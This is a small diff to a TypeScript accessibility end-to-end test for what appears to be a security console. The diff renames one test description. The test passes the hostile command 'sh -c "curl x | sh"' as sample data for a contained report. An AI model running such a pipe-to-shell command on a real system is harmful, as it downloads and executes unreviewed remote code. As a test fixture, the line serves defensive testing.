@@ -5,7 +5,7 @@ import { type ConsoleStack, desktop } from './stack';
 
 /** What people read, by keyboard, by mouse, on a phone and with a screen reader. */
 export function testReading(at: ConsoleStack): void {
-  it('tells the story and takes it to its end by keyboard alone', async () => {
+  it('shows the story and plays it to its end by keyboard alone', async () => {
     await containReported(at.e2e, 'keyed', 'sh -c "curl x | sh"');
     await endAlarm(at.e2e, 'keyed');
     const page = await at.open('?show=Contained');
